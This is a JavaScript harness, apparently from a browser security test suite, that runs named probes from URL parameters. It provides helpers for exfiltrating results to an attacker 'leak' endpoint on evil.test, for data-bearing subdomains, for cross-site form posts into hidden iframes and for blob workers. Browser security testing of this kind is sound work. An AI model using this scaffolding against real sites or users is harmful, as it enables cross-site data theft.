// Runs the probes that the page's URL names.
const query = new URLSearchParams(location.search), base = document.currentScript.src.replace(/attack\.js.*/, "");
const clicks = []; // each starts one probe
for (const probe of query.getAll("probe")) {
	const config = { run: query.get("run"), probe, base }, x = lib(config);
	x.source = "(" + lib + ")(" + JSON.stringify(config) + ").loot()"; // a script
	x.html = "<!doctype html><body><script>" + x.source + "</scr" + "ipt>"; // a page
	x.here = (name) => base + name + (name.includes("?") ? "&" : "?") + x.q; // a file of the app
	x.victim = query.get("victim"), x.app = query.get("app"), x.stun = query.get("stun");
	x.named = "https://" + probe.replaceAll(" ", "-") + "." + x.run + ".evil.test"; // a host whose name tells
	x.out = (way) => x.evil + "/leak?way=" + (way || "it") + "&" + x.q; // the attacker's server
	x.el = (tag, attributes, parent) => {
		const e = document.createElement(tag);
		for (const k in attributes) e.setAttribute(k, attributes[k]);
		(parent || document.body).append(e);
		return e;
	};
	x.frame = (src, more) => new Promise((done) => {
		const f = document.createElement("iframe");
		for (const k in more || {}) f.setAttribute(k, more[k]);
		f.addEventListener("load", () => done(f));
		setTimeout(() => done(f), 5000);
		if (src) f.src = src;
		document.body.append(f);
		if (more && more.name) f.setAttribute("name", more.name); // Firefox 153 forgets a name that it had before
	});
	x.loaded = (e) => new Promise((done) => { e.onload = e.onerror = () => done(e); setTimeout(() => done(e), 5000); });
	let forms = 0;
	// post submits a form, by default into a frame of its own.
	x.post = async (action, more, attributes) => {
		let target = "sink" + probe + forms++, f;
		if (!attributes || !attributes.target) f = await x.frame(x.base + "data.json", { name: target });
		const form = x.el("form", { method: "post", action, target, ...attributes });
		x.el("input", { name: "amount", value: "1", ...more }, form);
		HTMLFormElement.prototype.submit.call(form);
		if (f) await x.loaded(f);
		await x.wait(300);
	};
	x.until = async (value) => {
		for (let i = 0; i < 60; i++) { try { const v = value(); if (v) return v; } catch (e) { if (i === 59) throw e; } await x.wait(50); }
	};
	x.message = (ms) => new Promise((done, fail) => { addEventListener("message", (e) => done(e.data), { once: true }); setTimeout(() => fail(new Error("no message came")), ms || 1500); });
	x.worker = (text, options) => new Promise((done, fail) => {
		const w = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })), options);
		w.onmessage = (e) => done(e.data);
		w.onerror = (e) => { e.preventDefault(); fail(new Error("worker: " + e.message)); };
		setTimeout(() => fail(new Error("the worker said nothing")), 5000);
	});
	const start = async () => {
		await x.report("begin");
		try {
			const got = await Promise.race([probes[probe](x), x.wait(9000)]);
			if (got !== undefined && got !== null) await x.leak(typeof got === "string" ? got : JSON.stringify(got));
		} catch (e) {
			await x.leak("failed: " + e);
		}
		await x.report("end");
	};
	if (query.has("click")) clicks.push(start);
	else if (document.readyState === "complete") start();
	else addEventListener("load", start, { once: true });
}
if (clicks.length) {
	addEventListener("click", () => clicks.length && clicks.shift()());
	lib({ run: query.get("run"), probe: query.get("probe"), base }).report("ready");
}
